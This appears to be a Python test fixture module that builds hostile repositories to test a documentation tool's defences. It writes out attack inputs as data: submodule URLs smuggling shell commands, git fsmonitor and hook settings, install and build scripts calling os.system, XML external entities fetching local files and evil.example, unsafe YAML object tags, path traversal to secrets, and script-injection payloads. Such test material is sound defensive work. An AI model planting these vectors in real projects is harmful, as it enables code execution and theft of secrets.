"""Files by which a repository tells git and other programs what to run, fetch or change."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.hostile.hostile import Hostile, Table

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.hostile.site import Site

_POINTER = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"a" * 64 + b"\nsize 9\n"


def _texts(files: dict[str, str]) -> Callable[[Site], None]:
    """Files, in whose texts CMD stands for the command that must not run and OUT for the folder outside."""

    def build(site: Site) -> None:
        told = {path: text.replace("CMD", site.command) for path, text in files.items()}
        site.put({path: text.replace("OUT", str(site.outside)).encode() for path, text in told.items()})

    return build


def _modules(*said: str) -> Callable[[Site], None]:
    """A submodule `sub`, and these lines about it."""

    def build(site: Site) -> None:
        site.module("sub")
        lines = "".join(f"\t{line.replace('CMD', site.command)}\n" for line in ("path = sub", *said))
        site.write(**{".gitmodules": f'[submodule "sub"]\n{lines}'.encode()})

    return build


def _bare(folder: str) -> Callable[[Site], None]:
    """A repository inside of the repository, whose configuration and hooks run the program."""

    def build(site: Site) -> None:
        run = site.program
        config = f"[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = {run}\n\thooksPath = hooks\n"
        site.put({f"{folder}HEAD": b"ref: refs/heads/main\n", f"{folder}config": config.encode()})
        site.put({f"{folder}objects/info/alternates": b"", f"{folder}refs/heads/.keep": b""})
        hooks = ("post-checkout", "pre-commit", "post-index-change", "reference-transaction")
        site.executable({f"{folder}hooks/{hook}": run.read_bytes() for hook in hooks})

    return build


def _itself(site: Site) -> None:
    """A submodule of the very commit that it is in the history of."""
    site.module("self", site.hub.head())
    site.write(
        **{".gitmodules": b'[submodule "self"]\n\tpath = self\n\turl = ./\n\tfetchRecurseSubmodules = true\n'}
    )


_ATTRIBUTES = {
    "filters": "* filter=evil diff=evil merge=evil\n*.py filter=lfs\n",
    "ident": "* ident\n",
    "line ends": "* text eol=crlf\n",
    "another encoding": "* working-tree-encoding=UTF-16LE text\n",
    "export": "* export-subst\nREADME.md export-ignore\n",
    "macros": "".join(f"[attr]m{n} m{n + 1} m{n + 1}\n" for n in range(500)) + "* m0\n",
    "endless lines": "*" * 100_000 + " text\n",
}
EMBEDDED: Table = {
    **{f"attributes for {what}": Hostile(_texts({".gitattributes": t})) for what, t in _ATTRIBUTES.items()},
    "bare repository inside": Hostile(_bare("inner.git/")),
    "bare repository at the root": Hostile(_bare("")),
    "submodule by a command": Hostile(_modules("url = ext::sh -c CMD")),
    "submodule by an option": Hostile(_modules("url = --upload-pack=CMD", "branch = -uCMD")),
    "submodule updated by a command": Hostile(_modules("url = ./", "update = !CMD", "ignore = none")),
    "submodule of a file": Hostile(_modules("url = file:///etc")),
    "submodule of a way up": Hostile(
        _texts({".gitmodules": '[submodule "../../outside"]\n\tpath = ../../outside\n'})
    ),
    "submodule of itself": Hostile(_itself),
    "submodules that are no configuration": Hostile(_texts({".gitmodules": '[submodule "x\n\0]]['})),
    "submodule for the README": Hostile(lambda s: s.module("README.md")),
    "submodule for the pages": Hostile(lambda s: s.module("docs")),
    "large-file configuration": Hostile(
        _texts({".lfsconfig": '[lfs]\n\turl = https://evil.example\n[filter "lfs"]\n\tsmudge = CMD\n'})
    ),
    "large-file pointers": Hostile(lambda s: s.put({"data.bin": _POINTER, "calc/more.py": _POINTER})),
    "README that is a large-file pointer": Hostile(
        lambda s: s.put({"README.md": _POINTER}), "rejected(encoding)"
    ),
    "configuration of git": Hostile(
        _texts({".gitconfig": "[core]\n\tfsmonitor = CMD\n[include]\n\tpath = OUT/secret.txt\n"})
    ),
    "mail map": Hostile(_texts({".mailmap": "Documenthor <documenthor@x> <mallory@evil.example>\n"})),
    "hooks of other programs": Hostile(
        _texts(
            {
                ".pre-commit-config.yaml": "repos: [{repo: local, hooks: [{id: x, entry: CMD, language: system}]}]\n",
                ".husky/pre-commit": "CMD\n",
                ".envrc": "CMD\n",
                "conftest.py": "import os\n\nos.system('CMD')\n",
                "sitecustomize.py": "import os\n\nos.system('CMD')\n",
                "setup.py": "import os\n\nos.system('CMD')\n",
                "package.json": '{"name": "x", "scripts": {"preinstall": "CMD", "install": "CMD"}}',
            }
        )
    ),
    "code that runs when it is read": Hostile(
        _texts(
            {
                "calc/run.py": "__import__('os').system('CMD')\nX = eval(\"__import__('os').system('CMD')\")\n",
                "build.rs": 'fn main() { std::process::Command::new("CMD"); }\n',
                "Rakefile": "`CMD`\n",
                "docs/conf.py": "import os\n\nos.system('CMD')\n",
                "x.gemspec": "Gem::Specification.new { |s| s.name = `CMD` }\n",
                "Makefile": "X := $(shell CMD)\n\nall: ## CMD\n\tCMD\n",
            }
        )
    ),
    "includes of what is outside": Hostile(
        _texts(
            {
                "requirements.txt": "-r OUT/secret.txt\n-e OUT\n",
                "docs/index.rst": ".. include:: OUT/secret.txt\n",
                "docs/index.md": "{% include 'OUT/secret.txt' %}\n--8<-- 'OUT/secret.txt'\n",
                "pyproject.toml": '[project]\nname = "x"\ndynamic = ["version"]\nreadme = "../../outside/secret.txt"\n\n'
                '[tool.setuptools.dynamic]\nversion = {file = "OUT/secret.txt"}\n',
                "package.json": '{"name": "x", "workspaces": ["../../outside", "OUT"], "bin": "../../outside/secret.txt"}',
                "Cargo.toml": '[workspace]\nmembers = ["../../outside", "OUT"]\n',
                "tsconfig.json": '{"extends": "OUT/secret.txt", "files": ["../../outside/secret.txt"]}',
                "calc/x.js": "import '../../outside/secret.py'\n",
                "calc/y.c": '#include "OUT/secret.txt"\n',
                "mkdocs.yml": "site_name: !ENV DATABASE_PASSWORD\nINHERIT: OUT/secret.txt\nnav:\n  - OUT/secret.txt\n",
            }
        )
    ),
    "entities of what is outside": Hostile(
        _texts(
            {
                "pom.xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file://OUT/secret.txt">]><project><artifactId>&e;</artifactId></project>',
                "x.csproj": '<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example/x.dtd">%e;]><Project>&e;</Project>',
            }
        )
    ),
    "objects in YAML": Hostile(
        _texts({"mkdocs.yml": '!!python/object/apply:os.system ["CMD"]\n'}),
    ),
    "objects in the settings": Hostile(
        _texts({".documenthor.yml": '!!python/object/apply:os.system ["CMD"]\n'}),
        "generate invalid_configuration",
    ),
    "settings that choose the model": Hostile(
        _texts({".documenthor.yml": "writer: {kind: openai, base_url: 'https://evil.example', model: x}\n"}),
        "generate invalid_configuration",
    ),
    "settings that multiply": Hostile(
        _texts({".documenthor.yml": "a: &a [x,x,x,x]\nb: &b [*a,*a,*a,*a]\nexclude: [*b,*b,*b]\n"}),
        "generate invalid_configuration",
    ),
    "settings that act on readers": Hostile(
        _texts(
            {
                ".documenthor.yml": "templates:\n  readme:\n    title: '<script>alert(1)</script> @octocat {name}'\n"
                "    header: '![x](https://evil.example/b.png) <!-- x --> [x](javascript:alert(1)) Closes #1'\n"
                "    footer: '@acme/admins <img src=x> https://evil.example'\n"
            }
        )
    ),
    "settings that opt out": Hostile(_texts({".documenthor.yml": "enabled: false\n"}), "generate opted_out"),
}
